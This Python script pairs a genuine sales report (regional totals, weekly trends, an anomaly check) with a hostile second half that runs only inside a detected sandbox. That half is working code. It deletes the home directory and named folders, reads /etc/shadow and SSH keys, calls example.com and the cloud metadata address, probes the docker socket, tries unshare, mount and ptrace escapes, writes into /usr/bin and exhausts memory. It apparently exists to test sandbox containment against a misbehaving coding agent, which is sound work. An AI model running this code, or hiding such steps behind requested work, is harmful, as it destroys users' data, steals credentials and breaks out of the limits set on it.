#!/usr/bin/env python3
"""Sales report, as a coding agent might hand it over: useful work first, and things nobody asked for after it.

    agent_script.py DATA.csv [FOLDER_TO_DELETE...]

The report is real: totals for each region, the weekly trend, and the one day that does not fit. What follows it is
hostile: it deletes the home directory, collects secrets, calls out, tries to leave its box and takes all the memory it
can get. The hostile part does nothing unless the script finds itself inside a room, so running it by mistake on a
bare machine prints the report and stops.
"""
import collections
import csv
import ctypes
import datetime
import errno
import glob
import os
import shutil
import socket
import statistics
import subprocess
import sys


# --- what was asked for ----------------------------------------------------------------------------------------------

def load(path):
    with open(path, newline="") as file:
        return [(datetime.date.fromisoformat(row["date"]), row["region"], int(row["units"]),
                 round(float(row["revenue"]) * 100)) for row in csv.DictReader(file)]


def slope(values):
    """Least squares: what one step adds."""
    middle, mean = (len(values) - 1) / 2, statistics.fmean(values)
    return (sum((i - middle) * (v - mean) for i, v in enumerate(values))
            / sum((i - middle) ** 2 for i in range(len(values))))


def anomaly(rows):
    """The day that lies farthest from what its region usually sells on that weekday, in median deviations."""
    groups = collections.defaultdict(list)
    for day, region, _, cents in rows:
        groups[region, day.weekday()].append(cents)
    worst = None
    for day, region, _, cents in rows:
        usual = statistics.median(groups[region, day.weekday()])
        spread = statistics.median(abs(c - usual) for c in groups[region, day.weekday()])
        distance = abs(cents - usual) / max(spread, 1)
        if worst is None or distance > worst[0]:
            worst = (distance, day, region, cents, usual)
    return worst


def report(rows):
    print(f"report: {len(rows)} rows, {rows[0][0]} to {rows[-1][0]}")
    print("report: region      revenue   units   trend a week")
    by_region = collections.defaultdict(list)
    for row in rows:
        by_region[row[1]].append(row)
    for region, own in sorted(by_region.items()):
        cents = [row[3] for row in own]
        print(f"report: {region:<8} {sum(cents) / 100:>10.2f} {sum(row[2] for row in own):>7}"
              f"   {7 * slope(cents) / 100:>+10.2f}")
    print(f"report: {'all':<8} {sum(row[3] for row in rows) / 100:>10.2f} {sum(row[2] for row in rows):>7}")
    distance, day, region, cents, usual = anomaly(rows)
    print(f"report: check {region} on {day}: {cents / 100:.2f} where {usual / 100:.2f} is usual")


# --- what nobody asked for -------------------------------------------------------------------------------------------

def in_a_room():
    return os.environ.get("HOME") == "/work" and os.path.isdir("/run/strongroom") and os.getuid() != 0


def attempt(what, deed):
    """Says how it went: `stopped` with the reason, or `DONE`."""
    try:
        outcome = deed()
    except socket.gaierror as error:
        print(f"tried: {what}: stopped: no such name here: {error.strerror}")
    except OSError as error:
        print(f"tried: {what}: stopped: {errno.errorcode.get(error.errno, error.errno)}: {error.strerror or error}")
    else:
        print(f"tried: {what}: {outcome}")


def delete(folder):
    left = []
    shutil.rmtree(folder, onerror=lambda _function, path, why: left.append((path, why[1])))
    if left:
        raise left[0][1]
    return "DONE, deleted"


def delete_home():
    home = os.path.expanduser("~")
    shutil.rmtree(home, ignore_errors=True)
    return f"it is {home}, the room's own; nothing of the host is in it"


def read(path):
    with open(path, "rb") as file:
        return f"DONE, {len(file.read())} bytes: {file.name}"


def ssh_keys(folders):
    found = [key for home in ["~", *map(os.path.dirname, folders), "/root", *glob.glob("/home/*")]
             for key in glob.glob(os.path.expanduser(home + "/.ssh/id_*"))]
    return f"DONE, {[read(key) for key in found]}" if found else "stopped: no home directory, no key"


def fetch(host, port):
    with socket.create_connection((host, port), timeout=3) as connection:
        return f"DONE, connected to {connection.getpeername()[0]}"


def shell(command):
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=10)
    said = (done.stderr or done.stdout).strip().splitlines()
    return "DONE, status 0" if done.returncode == 0 else f"stopped: {said[0] if said else done.returncode}"


def call(name, *arguments):
    """A system call by its C name."""
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "DONE"


def others():
    own = {1, os.getpid(), os.getppid()}
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]
    return f"DONE, sees {seen}" if seen else "stopped: sees itself and the room's pid 1 only"


def eat_memory():
    hoard = []
    try:
        while True:
            hoard.append(b"\xa5" * (8 << 20))
    except MemoryError:
        return f"stopped: no more than {8 * len(hoard)} MiB"


def harm(folders):
    attempt("delete the home directory", delete_home)
    for number, folder in enumerate(folders):
        attempt(f"delete project folder {number + 1}", lambda folder=folder: delete(folder))
    attempt("read /etc/shadow", lambda: read("/etc/shadow"))
    attempt("collect ssh keys", lambda: ssh_keys(folders))
    attempt("send data to example.com:443", lambda: fetch("example.com", 443))
    attempt("ask the cloud for credentials (169.254.169.254)", lambda: fetch("169.254.169.254", 80))
    attempt("talk to the docker socket", lambda: read("/var/run/docker.sock"))
    attempt("see and stop other processes", others)
    attempt("shell: unshare --user --mount", lambda: shell("unshare --user --mount true"))
    attempt("mount a file system", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("trace pid 1", lambda: call("ptrace", 16, 1, None, None))
    attempt("write to /usr/bin", lambda: call("open", b"/usr/bin/python3-evil", os.O_CREAT | os.O_WRONLY, 0o755))
    sys.stdout.flush()
    attempt("take all memory", eat_memory)


def main():
    if len(sys.argv) < 2:
        sys.exit("usage: agent_script.py DATA.csv [FOLDER_TO_DELETE...]")
    report(load(sys.argv[1]))
    if not in_a_room():
        print("This is no room: the hostile half of this example was not run.")
        return
    sys.stdout.flush()
    harm(sys.argv[2:])


main()
